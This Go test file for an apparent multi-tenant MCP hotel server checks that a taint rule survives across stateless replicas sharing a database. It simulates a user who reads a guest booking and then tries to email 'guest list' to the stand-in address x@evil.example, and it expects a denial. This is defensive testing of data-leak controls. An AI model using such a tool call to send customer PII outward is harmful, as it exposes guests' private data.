package hotel_test

import (
	"context"
	"log/slog"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/tenantmcp/tenantmcp/claims/devtoken"
	"github.com/tenantmcp/tenantmcp/examples/hotel/hotel"
	"github.com/tenantmcp/tenantmcp/flow"
	"github.com/tenantmcp/tenantmcp/guardedsql/postgres"
)

// replica is one hotel server process: its own listener, pools, checker
// and memory, sharing only the database (and the identity provider).
type replica struct {
	app  *hotel.App
	stop func()
}

func startReplica(t *testing.T, dsn string, key postgres.Key, is *devtoken.Issuer) *replica {
	t.Helper()
	ctx, cancel := context.WithCancel(context.Background())
	app, err := hotel.New(ctx, hotel.Options{Addr: "127.0.0.1:0", DB: dsn, RLSKey: key,
		JWKSURL: is.JWKSURL, Issuer: is.URL, Audience: is.Audience,
		Logger: slog.New(slog.DiscardHandler), AuditLogger: slog.New(slog.DiscardHandler)})
	if err != nil {
		cancel()
		t.Fatal(err)
	}
	done := make(chan error, 1)
	go func() { done <- app.Serve(ctx) }()
	r := &replica{app: app}
	stopped := false
	r.stop = func() {
		if stopped {
			return
		}
		stopped = true
		cancel()
		<-done
		app.Close()
	}
	t.Cleanup(r.stop)
	return r
}

func (r *replica) connect(t *testing.T, token string) *mcp.ClientSession {
	t.Helper()
	cs, err := mcp.NewClient(&mcp.Implementation{Name: "replica", Version: "1"}, nil).Connect(context.Background(),
		&mcp.StreamableClientTransport{Endpoint: r.app.HTTP.ResourceURL,
			HTTPClient: &http.Client{Transport: bearer{token, http.DefaultTransport}}, DisableStandaloneSSE: true, MaxRetries: -1}, nil)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cs.Close() })
	return cs
}

// Two stateless hotel replicas on one PostgreSQL database: carol reads a
// guest's booking on one and tries to e-mail it from the other; denied.
// Both are stopped and a third starts: still denied. Another subject of
// the same hotel is not affected.
func TestLiveReplicasShareTaint(t *testing.T) {
	_, dsn, key, data := livePostgresDemo(t)
	is, err := devtoken.Start(devtoken.Options{Addr: "127.0.0.1:0", Audience: "http://hotel-replicas.test/mcp", Logger: slog.New(slog.DiscardHandler)})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { is.Close() })
	mint := func(sub string) string {
		tok, err := is.Mint(devtoken.Token{Subject: sub, Groups: []string{"/tenants/acme/hotels/acme-paris"}, Roles: []string{"front_desk"}, TTL: time.Hour})
		if err != nil {
			t.Fatal(err)
		}
		return tok
	}
	carol, dave := mint("carol"), mint("dave")
	var booking int64
	for _, b := range data.Bookings {
		if data.HotelOfBooking(b.ID) == "acme-paris" {
			booking = b.ID
			break
		}
	}
	a, b := startReplica(t, dsn, key, is), startReplica(t, dsn, key, is)
	if d, res := call[hotel.BookingDetail](t, a.connect(t, carol), "get_booking", map[string]any{"id": booking}); res.IsError || d.Guest.Email == "" {
		t.Fatalf("get_booking on replica a: %s", text(res))
	}
	exfil := map[string]any{"to": "x@evil.example", "body": "guest list"}
	sink := func(r *replica, token string) error {
		_, err := r.connect(t, token).CallTool(context.Background(), &mcp.CallToolParams{Name: "send_confirmation_email", Arguments: exfil})
		return err
	}
	if err := sink(b, carol); err == nil || !strings.Contains(err.Error(), flow.RuleCategory) {
		t.Fatalf("sink on replica b after a PII read on replica a: %v, want %s", err, flow.RuleCategory)
	}
	if err := sink(b, dave); err != nil {
		t.Fatalf("a subject who read nothing: %v", err)
	}
	a.stop()
	b.stop()
	c := startReplica(t, dsn, key, is)
	if err := sink(c, carol); err == nil || !strings.Contains(err.Error(), flow.RuleCategory) {
		t.Fatalf("after restarting every replica: %v, want %s", err, flow.RuleCategory)
	}
	if n := len(c.app.Outbox.Messages()); n != 0 {
		t.Fatalf("replica c sent %d messages", n)
	}
}
